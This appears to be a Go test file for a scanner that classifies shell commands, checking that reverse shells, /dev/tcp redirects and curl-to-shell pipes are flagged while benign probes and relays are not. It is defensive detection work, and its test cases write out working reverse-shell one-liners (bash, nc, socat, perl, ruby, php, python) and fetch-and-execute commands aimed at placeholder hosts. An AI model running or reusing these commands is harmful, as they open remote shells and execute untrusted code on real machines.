package scan

import (
	"strings"
	"testing"
)

// Each command is parsed as bash; want is the pattern id it must produce ("" means
// none of the shell analysis ids may fire).
func TestAnalyzeShell(t *testing.T) {
	cases := []struct {
		name, src, want, sev string
	}{
		{"bash -i to dev tcp, no path", `bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1`, idShellReverse, sevCritical},
		{"sh -i to dev udp", `sh -i >& /dev/udp/c2.example.invalid/53 0>&1`, idShellReverse, sevCritical},
		{"quoted shell name", `"ba"sh -i > /dev/tcp/c2.example.invalid/1 0<&1 2>&1`, idShellReverse, sevCritical},
		{"exec fd read-write", "exec 5<>/dev/tcp/c2.example.invalid/443\ncat <&5 | while read l; do $l 2>&5 >&5; done", idShellReverse, sevCritical},
		{"dev tcp data only", `echo ping > /dev/tcp/c2.example.invalid/80`, idShellNetRedir, sevHigh},
		{"dev tcp loopback probe", `timeout 1 bash -c '</dev/tcp/127.0.0.1/5432'`, "", ""},
		{"nc -e", `nc c2.example.invalid 4444 -e /bin/sh`, idShellReverse, sevCritical},
		{"sudo ncat -c", `sudo ncat -c bash c2.example.invalid 9001`, idShellReverse, sevCritical},
		{"nc port probe", `nc -z localhost 8080`, "", ""},
		{"mkfifo loop", `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc c2.example.invalid 4444 > /tmp/f`, idShellReverse, sevCritical},
		{"mkfifo local", "mkfifo \"$d/p\"\nproducer > \"$d/p\" &\nconsumer < \"$d/p\"", "", ""},
		{"socat exec", `socat tcp-connect:c2.example.invalid:4444 exec:'bash -li',pty,stderr`, idShellReverse, sevCritical},
		{"socat plain relay", `socat TCP-LISTEN:8080,fork TCP:localhost:80`, "", ""},
		{"perl one-liner", `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton("h")));open(STDIN,">&S");exec("sh -i");'`, idShellReverse, sevCritical},
		{"ruby one-liner", `ruby -rsocket -e 'c=TCPSocket.new("c2.example.invalid",1);while(m=c.gets);IO.popen(m){|i|c.print i.read};end'`, idShellReverse, sevCritical},
		{"php one-liner", `php -r '$s=fsockopen("c2.example.invalid",1);exec("/bin/sh -i <&3 >&3 2>&3");'`, idShellReverse, sevCritical},
		{"python one-liner, socket not first", `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, idShellReverse, sevCritical},
		{"curl | sh", `curl -fsSL https://get.example.invalid/i | sh`, idShellPipeExec, sevCritical},
		{"wget | sudo bash", `wget -qO- https://get.example.invalid/i | sudo bash -s -- --yes`, idShellPipeExec, sevCritical},
		{"curl | env python3", `curl -s https://get.example.invalid/p.py | /usr/bin/env python3 -`, idShellPipeExec, sevCritical},
		{"base64 -d | bash", `printf %s "$P" | base64 --decode | bash`, idShellPipeExec, sevCritical},
		{"bash <(curl)", `bash <(wget -qO- https://get.example.invalid/x.sh)`, idShellPipeExec, sevCritical},
		{"sh -c $(curl)", `sh -c "$(curl -fsSL https://get.example.invalid/i)"`, idShellPipeExec, sevCritical},
		{"nested bash -c", `bash -c "bash -c 'nc -e /bin/sh c2.example.invalid 1'"`, idShellReverse, sevCritical},
		{"eval of a reverse shell", `eval "bash -i >& /dev/tcp/c2.example.invalid/1 0>&1"`, idShellReverse, sevCritical},
		{"curl | tar", `curl -fsSL https://example.invalid/t.tgz | tar xz`, "", ""},
		{"curl | python script file", `curl -s https://example.invalid/data.json | python3 tools/fmt.py`, "", ""},
		{"git | xargs grep", `git ls-files | xargs grep -n TODO`, "", ""},
		{"does not parse, line still judged", "if then fi (\nnc -e /bin/sh c2.example.invalid 1", idShellReverse, sevCritical},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, _ := analyzeShell(c.src, 0)
			if c.want == "" {
				if len(got) > 0 {
					t.Fatalf("%q: want no shell finding, got %+v", c.src, got)
				}
				return
			}
			for _, f := range got {
				if f.id == c.want {
					if f.sev != c.sev {
						t.Fatalf("%q: %s severity %s, want %s", c.src, f.id, f.sev, c.sev)
					}
					return
				}
			}
			t.Fatalf("%q: want %s, got %+v", c.src, c.want, got)
		})
	}
}

func TestAnalyzeShellBounded(t *testing.T) {
	// Deep nesting and a huge script end without a hang or a crash.
	deep := strings.Repeat("bash -c '", 50) + "nc -e /bin/sh h 1" + strings.Repeat("'", 50)
	if _, err := analyzeShell(deep, 0); err == nil {
		t.Log("deep nesting parsed")
	}
	huge := strings.Repeat("echo hi | cat\n", 100000)
	if got, _ := analyzeShell(huge, 0); len(got) != 0 {
		t.Fatalf("huge benign script: %+v", got)
	}
}
